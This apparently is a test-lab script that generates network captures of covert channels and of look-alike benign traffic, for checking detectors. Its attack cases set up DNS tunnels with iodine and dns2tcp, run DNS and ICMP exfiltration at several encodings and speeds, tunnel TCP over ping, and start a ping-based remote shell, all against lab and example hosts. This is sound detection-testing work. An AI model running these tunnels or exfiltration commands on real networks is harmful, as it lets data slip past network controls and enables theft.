# shellcheck shell=bash disable=SC2034,SC2154,SC2086 # names of tests/lab/run, each one word
# SPDX-License-Identifier: GPL-2.0-or-later
# Ways out of a network inside what it lets pass: DNS, ping, calls home. And what is like them in a healthy network.

# resolver forwards the tunnel's zone to the tunnel's server; an alert may name either as the source or as the target.
resolver=10.80.0.18
covert=(from client python3 "$lab/covert.py")

SNAP=0
attack dns_tunnel_iodine_null dns_tunnel $client $outside iodine_tunnel $outside t.example fetch_inside -T NULL
attack dns_tunnel_iodine_txt dns_tunnel $client $outside iodine_tunnel $outside t.example fetch_inside -T TXT
attack dns_tunnel_iodine_cname dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example fetch_inside -T CNAME
attack dns_tunnel_iodine_mx dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example fetch_inside -T MX
attack dns_tunnel_iodine_a dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example fetch_inside -T A
attack dns_tunnel_iodine_short_names dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example fetch_inside -T TXT -M 100
attack dns_tunnel_iodine_upload dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example send_inside -T NULL
attack dns_tunnel_iodine_typing dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example type_inside -T TXT
attack dns_tunnel_iodine_idle dns_tunnel $client,$resolver $outside,$resolver \
    iodine_tunnel $resolver t.example stay_idle -T NULL
attack dns_tunnel_dns2tcp_txt dns_tunnel $client $outside dns2tcp_tunnel TXT
attack dns_tunnel_dns2tcp_key dns_tunnel $client $outside dns2tcp_tunnel KEY

# The names end at the lab's own resolver and behind it; what it forwards is its own question.
attack dns_exfil_hex dns_tunnel $client,$dns $dns,192.0.2.0/24 "${covert[@]}" dns $dns zone7.example --number --bytes 6000
attack dns_exfil_hex_short dns_tunnel $client,$dns $dns,192.0.2.0/24 "${covert[@]}" dns $dns zone8.example --label 24 --bytes 1800
attack dns_exfil_base32 dns_tunnel $client,$dns $dns,192.0.2.0/24 \
    "${covert[@]}" dns $dns zone9.example --encoding base32 --label 63 --labels 3 --bytes 20000 --every 0.05
attack dns_exfil_base64_txt dns_tunnel $client,$dns $dns,192.0.2.0/24 \
    "${covert[@]}" dns $dns zone10.example --encoding base64 --label 50 --type 16 --bytes 5000
attack dns_exfil_text dns_tunnel $client,$dns $dns,192.0.2.0/24 \
    "${covert[@]}" dns $dns zone11.example --form text --number --bytes 4000
AFTER="spread --factor 30" attack dns_exfil_slow dns_tunnel $client,$dns $dns,192.0.2.0/24 \
    "${covert[@]}" dns $dns zone12.example --number --label 50 --bytes 3000 --every 0.12
AFTER="spread --factor 100" attack dns_exfil_slower dns_tunnel $client,$dns $dns,192.0.2.0/24 \
    "${covert[@]}" dns $dns zone13.example --label 60 --encoding base32 --bytes 4000 --every 0.15
attack dns_exfil_among_users dns_tunnel $client,$dns $dns,192.0.2.0/24 exfiltrate_among_users

attack icmp_tunnel_ptunnel icmp_tunnel $client,$outside $outside,$client ping_tunnel ptunnel
attack icmp_tunnel_ptunnel_ng icmp_tunnel $client,$outside $outside,$client ping_tunnel ptunnel-ng
attack icmp_exfil icmp_tunnel $client $internet "${covert[@]}" icmp $internet
attack icmp_exfil_text icmp_tunnel $client $internet "${covert[@]}" icmp $internet --form text --size 300 --every 0.5 --bytes 12000
attack icmp_exfil_small icmp_tunnel $client $internet "${covert[@]}" icmp $internet --size 56 --every 0.1 --bytes 9000
AFTER="spread --factor 60" attack icmp_exfil_slow icmp_tunnel $client $internet \
    "${covert[@]}" icmp $internet --size 200 --every 0.3 --bytes 12000
BEFORE="echo_replies off" AFTER="echo_replies on" \
    attack icmp_shell icmp_tunnel $client,$outside $outside,$client talk_by_ping

benign dns_content_network $dns,$client \* ask_for_content_networks
benign dns_reputation_lookups $dns,$client \* ask_for_reputations
benign dns_reverse_lookups $dns,$client \* ask_for_reverse_names
benign dns_service_discovery \* \* discover_services
benign dns_signed_zone $dns,$client \* ask_a_signed_zone
benign ping_large $client $web from client ping -n -q -s 1400 -i 0.5 -c 8 $web
benign ping_path_mtu $client 203.0.113.9 find_path_mtu
AFTER="spread --factor 20" benign ping_monitoring $client \* monitor_by_ping 56
AFTER="spread --factor 20" benign ping_monitoring_large $client \* monitor_by_ping 1000
benign ping_windows_sized $client $web from client ping -n -q -s 32 -p 616263646566676869 -c 20 -i 0.5 $web
benign mtr_for_a_while $client 203.0.113.9 from client mtr -n -r -c 30 -i 0.5 203.0.113.9
SNAP=

# spread OPTION…: the capture that was just made, over a longer time: see tests/lab/spread.py.
spread()
{
    local file=$out/$name
    editcap -F pcap "$file.pcapng" - | python3 "$lab/spread.py" "$@" >"$file.pcap"
    editcap -F pcapng "$file.pcap" "$file.pcapng"
    rm "$file.pcap"
}

# iodine_tunnel NAMESERVER ZONE WHAT OPTION…: what is done inside a tunnel to outside.
iodine_tunnel()
{
    local server=$1 zone=$2 what=$3
    shift 3
    serve host5:53 dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --user=root \
        --cache-size=0 --pid-file="$lab_state/resolver.pid" --server="/$zone/$outside" --edns-packet-max=4096
    serve outside:53 iodined -f -c -P secret 172.31.0.1/24 "$zone"
    serve outside:7 python3 "$lab/servers.py" --echo 7
    serve outside:8080 python3 "$lab/answers.py" pages --port 8080
    serve client iodine -f -r -P secret "${@}" "$server" "$zone"
    wait_for_address dns0
    $what 172.31.0.1
    stop_serving
}

# wait_for_address INTERFACE: until client has it.
wait_for_address()
{
    for _ in {1..60}; do
        at client ip -4 addr show "$1" 2>/dev/null | grep -q inet && return
        sleep 0.2
    done
}

fetch_inside()
{
    from client ping -n -q -c 3 -i 0.3 "$1"
    LIMIT=8 from client curl -s -m 8 -o "$lab_state/page" "http://$1:8080/60000"
}

send_inside()
{
    head -c 20000 /dev/urandom >"$lab_state/secret"
    LIMIT=9 from client curl -s --http0.9 -m 9 -T "$lab_state/secret" -o "$lab_state/page" "http://$1:7/"
}

type_inside()
{
    LIMIT=16 from client ping -n -q -c 30 -i 0.5 -s 40 "$1"
}

stay_idle()
{
    sleep 18
}

dns2tcp_tunnel()
{
    local size
    printf '%s\n' 'listen = 0.0.0.0' 'port = 53' 'user = nobody' 'chroot = /tmp' 'domain = d.example' \
        'resources = web:127.0.0.1:8080' >"$lab_state/dns2tcpd"
    serve outside:53 dns2tcpd -F -f "$lab_state/dns2tcpd"
    serve outside:8080 python3 "$lab/answers.py" pages --port 8080
    serve client:8080 dns2tcpc -z d.example -r web -l 8080 -T "$1" $outside
    sleep 1
    for size in 400 4000 30000; do
        LIMIT=6 from client curl -s -m 6 -o "$lab_state/page" http://127.0.0.1:8080/$size
        sleep 1
    done
    stop_serving
}

exfiltrate_among_users()
{
    resolve_names &
    from client python3 "$lab/traffic.py" api $web --times 40 --servers 12 &
    "${covert[@]}" dns $dns zone7.example --number --bytes 3000 --every 0.15
    wait
}

# ping_tunnel PROGRAM: pages through TCP over echo requests.
ping_tunnel()
{
    local way=(-lp 8000 -da "$outside" -dp 8080) size
    [[ $1 != ptunnel-ng ]] || way=(-l8000 "-r$outside" -R8080)
    serve outside "$1"
    serve outside:8080 python3 "$lab/answers.py" pages --port 8080
    serve client "$1" -p $outside "${way[@]}"
    sleep 1.5
    for size in 500 20000 500; do
        LIMIT=5 from client curl -s -m 5 -o "$lab_state/page" http://127.0.0.1:8000/$size
        sleep 2
    done
    stop_serving
}

# echo_replies on|off: of outside's kernel, which would answer beside the tunnel's server.
echo_replies()
{
    local -A ignore=([on]=0 [off]=1)
    at outside sysctl -qw "net.ipv4.icmp_echo_ignore_all=${ignore[$1]}"
}

talk_by_ping()
{
    serve outside python3 "$lab/covert.py" icmp-shell
    sleep 0.5
    "${covert[@]}" icmp $outside --form text --size 48 --every 0.5 --jitter 0.9 --bytes 1500
    stop_serving
}

# look_up NAME…: as fast as a browser does.
look_up()
{
    printf '%s\n' "$@" | xargs -P 4 -I{} ip netns exec "${lab_prefix}client" dig +short +time=1 +tries=1 @$dns {}
}

# Names that machines made: twenty hosts below each of three content networks, most of them asked for again and again.
ask_for_content_networks()
{
    local i names=()
    for i in {1..20}; do
        names+=("d$(echo "$i" | sha256sum | cut -c 1-13).zone21.example" "a$((i * 317)).dscb.g$i.zone22.example"
            "e$((i * 7919))-$(echo "x$i" | md5sum | cut -c 1-8)-cdn-eu-west-1.prod.zone23.example")
    done
    for _ in 1 2 3 4; do
        look_up "${names[@]}"
        sleep 1.5
    done
}

# Mail and file reputations: an address backwards, or a hash, in front of the list's zone.
ask_for_reputations()
{
    local i names=()
    for i in {1..45}; do
        names+=("$((i * 5 % 256)).$((i * 31 % 256)).$((i * 77 % 256)).$((i % 220 + 1)).zone24.example")
    done
    for i in {1..25}; do
        names+=("$(echo "file$i" | md5sum | cut -c 1-32).zone25.example")
    done
    look_up "${names[@]}"
    sleep 2
    look_up "${names[@]:0:30}"
}

ask_for_reverse_names()
{
    local i
    for i in {1..120}; do
        from client dig +short +time=1 +tries=1 @$dns -x "203.0.113.$i" &
        sleep 0.1
    done
    wait
}

discover_services()
{
    "${traffic[@]}" chatter --times 12 --sources 10.80.0.8{0..5}
}

# A zone with keys, signatures and long texts: large answers to few names.
ask_a_signed_zone()
{
    local round kind
    serve host5:53 python3 "$lab/answers.py" amplify dns --size 1100
    for round in {1..12}; do
        for kind in DNSKEY TXT RRSIG MX; do
            from client dig +short +dnssec +bufsize=1400 +time=1 +tries=1 @$resolver $kind "zone$((round % 4)).example"
        done
        sleep 0.5
    done
    stop_serving
}

find_path_mtu()
{
    local size
    for size in 1472 1464 1432 1400 1372 1272 972; do
        from client ping -n -q -c 1 -M "do" -s $size 203.0.113.9
    done
}

# monitor_by_ping SIZE: ten hosts, one round after the other.
monitor_by_ping()
{
    from client fping -q -b "$1" -c 30 -p 500 -i 10 10.80.0.1{0,1,3,4,5,6} 10.80.0.1 203.0.113.{1..3}
}
